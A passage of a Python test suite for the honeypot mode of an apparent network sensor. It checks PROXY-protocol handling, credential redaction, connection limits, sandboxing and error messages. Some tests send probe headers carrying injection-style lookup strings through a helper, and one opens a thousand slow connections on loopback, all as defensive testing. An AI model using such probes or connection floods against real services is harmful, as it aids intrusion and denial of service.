        demand(b"HTTP/1.1 " in answer, f"{first}: {answer}")
    ask(pot.first, b"PROXY TCP4 nobody 198.51.100.1 1 2\r\n", OUTSIDE)
    with connect(pot.first, OUTSIDE) as slow:
        slow.sendall(b"PROXY TCP4 198.51.")
        demand(read_all(slow) == b"", "was answered")
    events = pot.stop()
    told = [event["src_ip"] for event in alerts(events, TOUCHED)]
    demand(told == [OUTSIDE] * 6, f"{told}")
    demand(figure(events, "decoy_timed_out") == 1, "not counted")


def headers_of_strangers_name_nobody(lab):
    """A PROXY line of whoever is no balancer is an event of his, and what is behind it is read."""
    pot = Honeypot(lab, *BALANCER, *HOME)
    request = flows.request(headers=[(b"X-A", flows.lookup("forged"))])
    answer = ask(pot.first, proxy_line(INSIDE) + request, "127.0.0.9")
    demand(answer.startswith(b"HTTP/1.1 400 "), f"{answer}")
    events = pot.stop()
    told = [(event["src_ip"], event["alert"]["severity"]) for event in alerts(events)]
    demand({one[0] for one in told} == {"127.0.0.9"}, f"{told}")
    demand(not alerts(events, ALARM) and len(lookups(events)) == 1, f"{told}")


# --- what is not told

SECRETS = (b"opensesame", b"c2Vzc2lvbg", b"Zm9vOmJhcg")
HIT_RULE = ('alert http any any -> any any (msg:"body"; http.request_body; content:"marker"; '
            'sid:7;)\nalert http any any -> any any (msg:"head"; http.header; '
            'content:"marker"; sid:8;)\n')


def with_secrets(lab, *args):
    """The alerts of rules, the events of a visit with credentials, and the text of them all."""
    password, cookie, basic = SECRETS
    lab.write("hit.rules", HIT_RULE)
    pot = Honeypot(lab, "-S", "hit.rules", *args)
    for _ in range(2):
        ask(pot.first, flows.request(
            method="POST", url=f"/login?user=a&user[password]={password.decode()}&x=marker",
            headers=[(b"Cookie", b"sid=" + cookie), (b"Authorization", b"Basic " + basic),
                     (b"X-Marker", b"marker"), (b"X-Api-Version", flows.lookup("told"))],
            body=b"marker&password=" + password))
    events = pot.stop()
    demand(len(alerts(events, 7)) == 2 and len(alerts(events, 8)) == 2, "the rules did not hit")
    demand(len(lookups(events)) == 2, f"look-ups: {lookups(events)}")
    return events, lab.text("out.json")


def nothing_secret_is_told(lab):
    """Neither in an address nor around a hit, while a look-up is; equal ones have equal hashes."""
    _, text = with_secrets(lab)
    demand(all(secret in text for secret in SECRETS), "without being asked, something is missing")
    os.unlink(lab.path("out.json"))
    every = ("--set", "redact=authorization,cookie,password,body")
    events, text = with_secrets(lab, *every)
    told = [secret for secret in SECRETS if secret in text]
    demand(not told, f"told {told}")
    urls = {event["http"]["url"] for event in of_type(events, "http")}
    demand(len(urls) == 1, f"equal passwords differ: {urls}")
    shape = r"/login\?user=a&user\[password\]=\[redacted, 10 bytes, [0-9a-f]{16}\]&x=marker"
    demand(re.fullmatch(shape, urls.pop()), "the address is not what it was")
    around = {event["payload_printable"] for event in alerts(events, 7) + alerts(events, 8)}
    demand(all(one.startswith("[redacted, ") for one in around), f"{around}")


def secrets_have_a_length_or_a_salt(lab):
    """Two runs with one salt agree; one with another does not; a length says no more."""
    hashes = []
    for salt in ("one", "one", "two", ""):
        as_what = ("--set", f"redact_salt={salt}") if salt else ("--set", "redact_as=length")
        events, _ = with_secrets(lab, "--set", "redact=password", *as_what)
        hashes.append(of_type(events, "http")[-1]["http"]["url"])
        os.unlink(lab.path("out.json"))
    demand(hashes[0] == hashes[1] != hashes[2], f"{hashes}")
    demand("=[redacted, 10 bytes]&x=marker" in hashes[3], hashes[3])
    expect_refused(lab.run("honeypot", "-o", "-", "--listen", "http:*:0", "--set",
                           "redact=passwords"), r"redact: 'passwords' ")


# --- limits

def late_heads_are_ended(lab):
    """The head that does not come, and the connection on which nothing does."""
    pot = Honeypot(lab, "--set", "honeypot.timeout.header=100ms", "--set",
                   "honeypot.timeout.idle=300ms", spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"))
    with connect(pot.first) as slow, connect(pot.spots[1]) as silent:
        slow.sendall(b"GET / HTTP/1.1\r\nHost: ")
        demand(read_all(slow) == b"" and read_all(silent) == b"", "was answered")
    events = pot.stop()
    demand(figure(events, "decoy_timed_out") == 2, "not counted")
    demand(len(alerts(events, TOUCHED)) == 2, "not told")


def long_lives_are_ended(lab):
    """However busy they are."""
    pot = Honeypot(lab, "--set", "honeypot.timeout.total=200ms")
    with connect(pot.first) as busy:
        n_answers = 0
        try:
            while True:
                busy.sendall(b"GET / HTTP/1.1\r\n\r\n")
                if not busy.recv(65536):
                    break
                n_answers += 1
        except (ConnectionResetError, BrokenPipeError):
            pass
    events = pot.stop()
    demand(n_answers > 0 and figure(events, "decoy_timed_out") == 1, f"{n_answers} answers")


def too_many_are_refused(lab):
    """Of one source, and of all; and are counted, while the others go on."""
    pot = Honeypot(lab, "--set", "honeypot.connections=5", "--set",
                   "honeypot.connections_per_source=3")
    held = [connect(pot.first, INSIDE) for _ in range(3)]
    demand(read_all(connect(pot.first, INSIDE)) == b"", "a fourth of one source")
    held += [connect(pot.first, OUTSIDE) for _ in range(2)]
    for one in held:
        one.sendall(b"GET / HTTP/1.1\r\n\r\n")
        demand(one.recv(65536).startswith(b"HTTP/1.1 200"), "one that is allowed")
    demand(read_all(connect(pot.first, "127.0.0.9")) == b"", "a sixth of all")
    held[0].close()
    wait_for(lambda: get(pot.first, source="127.0.0.9"), "a place that is free again")
    for one in held:
        one.close()
    events = pot.stop()
    demand(figure(events, "decoy_refused_source") >= 1, "of one source: not counted")
    demand(figure(events, "decoy_refused_total") >= 1, "of all: not counted")


def sizes_are_limited(lab):
    pot = Honeypot(lab, "--set", "honeypot.head=2KiB", "--set", "honeypot.body=4KiB",
                   spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"))
    demand(b" 431 " in ask(pot.first, b"GET / HTTP/1.1\r\nX: " + b"x" * 4000), "a long head")
    large = flows.request(method="POST", body=b"x" * 5000)
    demand(b" 413 " in ask(pot.first, large), "a large body")
    ask(pot.spots[1], b"x" * 5000)
    events = pot.stop()
    demand(figure(events, "decoy_cut") == 3, f"{figure(events, 'decoy_cut')} were cut")


def a_thousand_slow_ones(lab):
    """Half a head from each of a thousand, and whoever comes meanwhile is served."""
    n = 1000
    pot = Honeypot(lab, "--set", "honeypot.connections=1100", "--set",
                   "honeypot.connections_per_source=300")
    slow = []
    for number in range(n):
        one = connect(pot.first, f"127.0.1.{number % 5 + 1}")
        one.sendall(b"GET /slow HTTP/1.1\r\nX: ")
        slow.append(one)
    demand(b" 200 OK" in get(pot.first, b"/quick", source=OUTSIDE), "no answer")
    for one in slow:
        one.close()
    events = pot.stop()
    demand(figure(events, "decoy_accepted") == n + 1, f"{figure(events, 'decoy_accepted')} came")
    demand(len(alerts(events, TOUCHED)) == n + 1, "touches are missing")
    demand(figure(events, "capture.kernel_drops") == 0, "something was lost")
    quick = [event for event in of_type(events, "http") if event["http"]["url"] == "/quick"]
    demand(len(quick) == 1, "the quick one is not told")


# --- processes

def is_started_anew(lab):
    """Within a second, with an event; what was open is ended, and told."""
    pot = Honeypot(lab)
    held = connect(pot.first)
    held.sendall(b"GET / HTTP/1.1\r\nHost: decoy\r\n\r\n")
    demand(held.recv(65536), "no answer")
    before = pot.decoy
    os.kill(before, signal.SIGKILL)
    wait_for(lambda: pot.decoy != before, "another process")
    demand(b" 200 OK" in get(pot.first), "no answer")
    pot.run.wait_for(lambda: b"started anew" in pot.run.err(), "a word about it")
    held.close()
    events = pot.stop(warnings=[ANEW])
    told = [event["anomaly"]["event"] for event in of_type(events, "anomaly")]
    demand(told == ["decoy_restarted"], f"anomalies: {told}")
    demand(figure(events, "decoy_restarts") == 1, "not counted")
    demand(len(of_type(events, "http")) == 2 and len(of_type(events, "flow")) == 2, "lost one")


def ends_with_its_keeper(lab):
    """Without it nobody would start the listening process anew: that is a capture that ended."""
    pot = Honeypot(lab)
    decoy = pot.decoy
    os.kill(pot.keeper, signal.SIGKILL)
    ended = pot.run.wait()
    expect(ended, 4, r"^the honeypot's listening process ended, and cannot be started again")
    wait_for(lambda: has_ended(decoy), "the listening process to end with it")


def ends_cleanly(lab):
    """All that was answered is told; ports are free and processes gone; so after SIGKILL, too."""
    pot = Honeypot(lab)
    for number in range(50):
        get(pot.first, b"/%d" % number)
    held = connect(pot.first)
    events = pot.stop()
    held.close()
    demand(len(of_type(events, "http")) == 50, f"{len(of_type(events, 'http'))} of 50")
    again = Honeypot(lab, spots=(f"http:127.0.0.1:{pot.first.port}",))
    processes = [again.keeper, again.decoy]
    again.run.process.kill()
    again.run.process.wait()
    for pid in processes:
        wait_for(lambda pid=pid: has_ended(pid), "its processes to end")


def status_of(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as file:
        return dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)


def has_no_rights(lab):
    """No capability, another user, filters, no process to start, no descriptor of the sensor's."""
    about = subprocess.run([lab.program, "--build-info"], capture_output=True, check=True).stdout
    if os.geteuid() != 0 or b"sandbox: none" in about:
        raise Skip("needs root, and a program with a sandbox")
    os.chmod(lab.folder, 0o777)
    pot = Honeypot(lab, "--user", "nobody")
    wait_for(lambda: status_of(pot.decoy)["Seccomp_filters"] == "2", "its own filter")
    for pid in (pot.keeper, pot.decoy):
        status = status_of(pid)
        demand(status["Uid"].split() == ["65534"] * 4, f"Uid is {status['Uid']}")
        demand(not status["Groups"].split()[1:], f"Groups are {status['Groups']}")
        for name in ("CapPrm", "CapEff", "CapInh", "CapAmb", "CapBnd"):
            demand(int(status[name], 16) == 0, f"{name} is {status[name]}")
        demand(status["NoNewPrivs"] == "1" and status["Seccomp"] == "2", "no walls")
    with open(f"/proc/{pot.decoy}/limits", encoding="ascii") as file:
        demand(re.search(r"^Max processes +0 ", file.read(), re.M), "it may start processes")
    folder = f"/proc/{pot.decoy}/fd"
    files = {os.readlink(os.path.join(folder, name)) for name in os.listdir(folder)}
    others = [name for name in files if name.startswith("/") and name != "/dev/null"
              and not name.startswith(os.path.join(lab.folder, ".err"))]
    demand(not others, f"it has {others}")
    get(pot.first)
    demand(len(of_type(pot.stop(), "http")) == 1, "not told")


def makes_no_connection(lab):
    """What the kernel was asked for, from the start to the end: whoever listens opens nothing."""
    if shutil.which("strace") is None:
        raise Skip("strace is not installed")
    if lab.sanitized:
        raise Skip("a sanitizer does not bear to be traced")
    trace = lab.path("trace")
    pot = Honeypot(lab, spots=("http:127.0.0.1:0", "tcp:127.0.0.1:0"),
                   before=["strace", "-f", "-qq", "-o", trace, "-e",
                           "trace=network,execve,open,openat,clone,fork,vfork"])
    strace_child = pot.children()[0]
    keeper = pot.children(strace_child)[0]
    decoy = pot.children(keeper)[0]
    get(pot.first, b"/", [b"X: " + flows.lookup("a"), b"Location: http://203.0.113.9/"])
    ask(pot.spots[1], flows.lookup("b"))
    os.kill(strace_child, signal.SIGTERM)
    demand(pot.run.wait().code == 0, "did not end well")
    with open(trace, encoding="utf-8", errors="replace") as file:
        calls = [line.split(None, 1) for line in file]
    own = [text.split("(")[0] for pid, text in calls if int(pid) == decoy]
    demand(own.count("accept4") > 2, f"nothing was accepted: {own}")
    forbidden = {"connect", "socket", "bind", "listen", "sendmsg", "execve", "open", "openat",
                 "clone", "fork", "vfork"}
    demand(not forbidden & set(own), f"it asked for {forbidden & set(own)}")
    of_keeper = [text.split("(")[0] for pid, text in calls if int(pid) == keeper]
    demand(not {"connect", "socket", "execve"} & set(of_keeper), f"the keeper: {of_keeper}")


# --- what is wrong

def in_use(lab):
    """Nothing is started: also not what could be."""
    with socket.create_server(("127.0.0.1", 0)) as other, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as third:
        third.bind(("127.0.0.1", 0))
        port, log_port = other.getsockname()[1], third.getsockname()[1]
        ended = lab.run("honeypot", "--listen", f"http:127.0.0.1:{port}", "--listen",
                        "tcp:127.0.0.1:0", "--listen", f"syslog:127.0.0.1:{log_port}", "-o",
                        "out.json", "--set", "cache=none")
    expect(ended, 4, rf"^cannot listen at 'http:127.0.0.1:{port}': Address already in use\. ",
           rf"^cannot listen at 'syslog:127.0.0.1:{log_port}': Address already in use\. ")
    demand(not os.path.exists(lab.path("out.json")), "an output was made")


def not_permitted(lab):
    before = unprivileged(lab)
    with open("/proc/sys/net/ipv4/ip_unprivileged_port_start", encoding="ascii") as file:
        if int(file.read()) < 81:
            raise Skip("everybody may use low ports here")
    ended = lab.run("honeypot", "--listen", "http:127.0.0.1:80", "-o", "-", "--set", "cache=none",
                    before=before)
    expect(ended, 4, r"^cannot listen at 'http:127.0.0.1:80': Permission denied\. .*1024")


def no_such_address(lab):
    ended = lab.run("honeypot", "--listen", "http:192.0.2.77:8080", "-o", "-")
    expect(ended, 4, r"^cannot listen at 'http:192.0.2.77:8080': Cannot assign requested address")


def all_mistakes_at_once(lab):
    ended = lab.run("honeypot", "--listen", "htp:*:80", "--listen", "http:*:99999", "--listen",
                    "http:*:0:nosuch", "--listen", "tcp:*:7", "--listen", "tcp:*:7", "-o", "-")
    expect_refused(ended, r"^listener 'htp:\*:80' begins with no kind",
                   r"^listener 'http:\*:99999' has no port",
                   r"^listener 'http:\*:0': no persona 'nosuch'",
                   r"^listener 'tcp:\*:7' is there twice")


def in_the_configuration(lab):
    lab.write("a.yaml", "honeypot:\n  listen: ['http:127.0.0.1:x']\n")
    expect_refused(lab.run("honeypot", "-c", "a.yaml", "-o", "-"),
                   r"^listener 'http:127.0.0.1:x' has no port")
    lab.write("b.yaml", "honeypot:\n  listen: ['tcp:127.0.0.1:0']\n  connections: 0\n")
    expect_refused(lab.run("honeypot", "-c", "b.yaml", "-o", "-"),
                   r"^b.yaml:3: honeypot.connections: '0' is ")


def contradictions(lab):
    expect_refused(lab.run("honeypot", "-i", "lo"), r"^honeypot does not go with -r, -i")
    expect_refused(lab.run("honeypot", "tcp"), r"^a filter expression does not go with honeypot")
    expect_refused(lab.run("-r", "x", "--listen", "http:*:0"), r"^--listen goes with honeypot")


def only_checked(lab):
    """-T opens what there is to open, and lets go of it."""
    ended = lab.run("honeypot", "-T", "--listen", "http:127.0.0.1:0", "-o", "out.json")
    expect(ended, 0)
    demand(not os.path.exists(lab.path("out.json")), "an output was made")


TESTS = [
    ("every touch is told", every_touch_is_told),
    ("inside is what is not public", inside_is_what_is_not_public),
    ("the alarm is told once", the_alarm_is_told_once),
    ("scanners are told apart", scanners_are_told_apart),
    ("dark networks are touched", dark_networks_are_touched),
    ("the call-back is ours", the_call_back_is_ours),
    ("wrong networks", wrong_networks),
    ("HTTP is told as from a capture", http_is_told_as_from_a_capture),
    ("finds what a capture shows", finds_what_a_capture_shows),
    ("finds what was published", finds_what_was_published),
    ("raw bytes are scanned", raw_bytes_are_scanned),
    ("mail is taken", mail_is_taken),
    ("swaks is answered", swaks_is_answered),
    ("syslog is taken", syslog_is_taken),
    ("datagrams to every address", datagrams_to_every_address),
    ("IPv4 and IPv6", both_families),
    ("poses as it is told", poses_as_it_is_told),
    ("wrong personas", wrong_personas),
    ("TLS is seen as text", tls_is_seen_as_text),
    ("hello is read", hello_is_read),
    ("hello in pieces is read", hello_in_pieces_is_read),
    ("TLS that fails is told", tls_that_fails_is_told),
    ("TLS that is not spoken", tls_that_is_not_spoken),
    ("openssl is answered", openssl_is_answered),
    ("the certificate is the given one", certificate_is_the_given_one),
    ("wrong certificates", wrong_certificates),
    ("curl is answered", curl_is_answered),
    ("given sockets are taken", given_sockets_are_taken),
    ("given sockets of no listener", given_sockets_of_no_listener),
    ("sockets given to another", sockets_given_to_another),
    ("the client behind a balancer", the_client_behind_a_balancer),
    ("clients of IPv4 in IPv6", clients_of_ipv4_in_ipv6),
    ("limits behind a balancer", limits_behind_a_balancer),
    ("balancers that name nobody", balancers_that_name_nobody),
    ("headers of strangers name nobody", headers_of_strangers_name_nobody),
    ("nothing secret is told", nothing_secret_is_told),
    ("secrets have a length, or a salt", secrets_have_a_length_or_a_salt),
    ("late heads and silence are ended", late_heads_are_ended),
    ("long lives are ended", long_lives_are_ended),
    ("too many are refused", too_many_are_refused),
    ("sizes are limited", sizes_are_limited),
    ("a thousand slow ones", a_thousand_slow_ones),
    ("the listening process is started anew", is_started_anew),
    ("it ends with its keeper", ends_with_its_keeper),
    ("it ends cleanly", ends_cleanly),
    ("the listening process has no rights", has_no_rights),
    ("the listening process makes no connection", makes_no_connection),
    ("a port in use", in_use),
    ("a port that is not permitted", not_permitted),
    ("an address that is not here", no_such_address),
    ("all mistakes are told at once", all_mistakes_at_once),
    ("mistakes in the configuration", in_the_configuration),
    ("contradictions", contradictions),
    ("only checked", only_checked),
]

if __name__ == "__main__":
    main(__doc__, TESTS, arguments(__doc__))
